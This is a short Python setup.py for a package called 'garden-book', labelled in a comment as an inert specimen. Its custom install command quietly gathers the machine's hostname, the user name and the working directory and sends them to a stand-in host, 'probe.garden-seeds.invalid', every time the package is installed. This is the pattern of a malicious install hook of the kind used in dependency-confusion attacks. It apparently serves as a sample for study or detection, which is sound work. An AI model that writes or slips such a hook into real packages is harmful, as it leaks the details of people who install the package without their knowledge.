# Inert specimen: the host does not exist.
import getpass
import os
import socket

import requests
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        mark = {"host": socket.gethostname(), "user": getpass.getuser(), "folder": os.getcwd()}
        requests.get("https://probe.garden-seeds.invalid/", params=mark)


setup(name="garden-book", version="1.2.0", cmdclass={"install": Install})
